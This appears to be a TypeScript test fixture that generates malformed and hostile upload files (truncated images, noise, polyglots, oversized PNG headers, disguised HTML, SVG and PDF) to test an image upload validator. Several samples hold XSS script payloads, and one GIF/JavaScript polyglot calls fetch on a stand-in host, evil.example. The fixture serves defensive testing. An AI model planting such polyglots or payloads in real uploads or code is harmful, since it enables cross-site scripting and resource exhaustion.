import sharp from 'sharp'
import { maxUploadBytes } from '#server/contract/constants.ts'

/** Named files that are not readable pictures. */
export async function hostileFiles(): Promise<[string, Buffer][]> {
  const picture = await sharp({
    create: {
      width: 400,
      height: 300,
      channels: 3,
      background: '#fff',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .png()
    .toBuffer()
  const whole = {
    jpeg: await sharp(picture).jpeg().toBuffer(),
    png: picture,
    webp: await sharp(picture).webp().toBuffer(),
    avif: await sharp(picture).avif({ effort: 0 }).toBuffer(),
    gif: await sharp(picture).gif({ effort: 1 }).toBuffer(),
  }
  const chance = seeded(7)
  const files: [string, Buffer][] = []
  for (const [format, file] of Object.entries(whole)) {
    for (let i = 0; i < 14; i++) {
      const length = Math.floor(file.length * (0.02 + 0.8 * chance()))
      files.push([`${format} cut off after ${length} bytes`, file.subarray(0, length)])
    }
    for (let i = 0; i < 14; i++) {
      const random = Buffer.from(Array.from({ length: 200 + i * 97 }, () => Math.floor(chance() * 256)))
      files.push([`${format} header before noise, ${i}`, Buffer.concat([file.subarray(0, 16), random])])
    }
  }
  for (let i = 0; i < 24; i++) {
    files.push([`noise ${i}`, Buffer.from(Array.from({ length: i * 53 }, () => Math.floor(chance() * 256)))])
  }
  return [
    ...files,
    ...(await animations(picture)),
    ...(await giants(picture)),
    ...disguises(),
    ...polyglots(whole, chance),
  ]
}

/** The header of one format before a file of another, and headers before an archive. */
function polyglots(whole: Record<string, Buffer>, chance: () => number): [string, Buffer][] {
  const formats = Object.entries(whole)
  const files: [string, Buffer][] = []
  for (const [first, head] of formats) {
    for (const [second, body] of formats) {
      if (first === second) continue
      files.push([`${first} followed by ${second}`, Buffer.concat([head.subarray(0, 40), body])])
    }
  }
  for (const first of ['jpeg', 'png', 'webp'] as const) {
    const archive = Buffer.from(
      'PK\x03\x04\x14\0\0\0 an archive with a page <script>alert(1)</script>',
      'latin1',
    )
    const head = whole[first]?.subarray(0, 24 + Math.floor(chance() * 10)) ?? Buffer.alloc(0)
    files.push([`${first} with an archive inside`, Buffer.concat([head, archive, Buffer.alloc(4000)])])
  }
  return files
}

async function animations(frame: Buffer): Promise<[string, Buffer][]> {
  const frames = await Promise.all(
    [1, 2, 3].map((n) =>
      sharp(frame)
        .rotate(n * 90)
        .resize(300, 300)
        .png()
        .toBuffer(),
    ),
  )
  const joined = (format: 'gif' | 'webp') =>
    sharp(frames, { join: { animated: true } })
      .toFormat(format)
      .toBuffer()
  return [
    ['animated gif', await joined('gif')],
    ['animated webp', await joined('webp')],
  ]
}

/** Pictures with too many pixels or bytes, or headers that claim so, and one too small for print. */
async function giants(picture: Buffer): Promise<[string, Buffer][]> {
  const claims = [50_000, 20_000, 2 ** 31 - 1].map((edge): [string, Buffer] => {
    const file = Buffer.from(picture)
    file.writeUInt32BE(edge, 16)
    file.writeUInt32BE(edge, 20)
    return [`png that claims ${edge} pixels square`, file]
  })
  const real = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#fff' } })
    .png()
    .toBuffer()
  const tiny = await sharp(picture).resize(20, 20).png().toBuffer()
  const heavy = Buffer.concat([picture, Buffer.alloc(maxUploadBytes)])
  return [
    ...claims,
    ['png of 81 megapixels', real],
    ['png of 400 pixels', tiny],
    ['png followed by 15 MB', heavy],
  ]
}

function disguises(): [string, Buffer][] {
  const texts = {
    'page named like a photo': '<!doctype html><script>alert(1)</script><img src=x>',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="400" height="400"/></svg>',
    pdf: '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF padding padding',
    script: 'GIF89a=1;fetch("//evil.example");/* a script that starts like a picture */',
    heic: '\0\0\0\x18ftypheic\0\0\0\0mif1heic and nothing more',
    bitmap: 'BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0 a bitmap header',
    zip: 'PK\x03\x04\x14\0\0\0\x08\0 an archive',
    tiff: 'II*\0\x08\0\0\0 a tagged image that is not accepted',
    'jpeg and script': '\xff\xd8\xff\xe0\0\x10JFIF\0<script>alert(1)</script>',
    riff: 'RIFF\x24\0\0\0WAVEfmt sound instead of a picture',
  }
  return Object.entries(texts).map(([name, text]): [string, Buffer] => [name, Buffer.from(text, 'latin1')])
}

function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return state / 2 ** 32
  }
}
